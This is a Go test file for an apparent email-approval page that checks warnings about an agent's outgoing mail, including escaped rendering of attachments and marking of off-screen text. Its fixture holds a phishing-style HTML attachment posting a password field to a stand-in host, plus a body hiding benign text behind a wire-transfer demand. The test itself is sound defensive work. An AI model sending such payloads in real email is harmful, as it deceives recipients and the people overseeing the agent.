package web_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"net/mail"
	"strings"
	"testing"
	"time"

	"github.com/countersign/countersign/action/email"
	"github.com/countersign/countersign/approval"
	"github.com/countersign/countersign/channel/email/mailer"
	"github.com/countersign/countersign/web"
)

// The approval page of an email with an active HTML attachment and an
// HTML part that hides text (issue 19 classes 4 and 5): the page warns of
// both with the codes the agent gets, shows the attachment's source as
// inert text, and marks the hidden text in the frame.
func TestPageShowsActiveAttachmentAndHiddenText(t *testing.T) {
	a, err := email.New(mailer.NewDevMailbox(1), mail.Address{Address: "agent@corp.example"}, email.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	attachment := `<html><form action="https://evil.example/collect"><input name=pw></form><script>steal()</script></html>`
	raw, _ := json.Marshal(map[string]any{"to": []string{"ada@client.example"}, "subject": "Invoice",
		"text": "Hello Ada, lunch on Friday?\n",
		"html": `<p>Please wire 90000 EUR today.</p><p style="position:absolute;left:-9999px">Hello Ada, lunch on Friday?</p>`,
		"attachments": []map[string]string{{"name": "invoice.html", "content_type": "text/html",
			"content_base64": base64.StdEncoding.EncodeToString([]byte(attachment))}}})
	p, err := a.Prepare(context.Background(), approval.PrepareRequest{Principal: &approval.Principal{ID: "agent"}, Input: raw})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	op := &approval.Operation{Key: "op_page", Action: email.Name, Preview: p.Preview, Status: approval.StatusPending,
		ExpiresAt: now.Add(time.Hour), PayloadHash: "sha256:00", Route: approval.Route{Required: 1}}
	m := approval.BuildMessage(op, &approval.Policy{}, now)
	var b bytes.Buffer
	if err := web.RenderPreview(&b, m, "Grace", now); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, code := range []string{approval.WarnActiveAttachment, approval.WarnHiddenHTMLText, approval.WarnHTMLDiffers} {
		if !strings.Contains(page, `data-code="`+code+`"`) {
			t.Errorf("no %s warning on the page", code)
		}
	}
	if !strings.Contains(page, "&lt;script&gt;steal()&lt;/script&gt;") || strings.Contains(page, "<script>steal()") {
		t.Error("the attachment's source is not shown as text")
	}
	if !strings.Contains(page, "[hidden: Hello Ada, lunch on Friday?]") {
		t.Error("the hidden text is not marked in the page")
	}
	if strings.Count(page, "<form") != 1 { // the page's own decision form only
		t.Errorf("%d forms on the page", strings.Count(page, "<form"))
	}
}
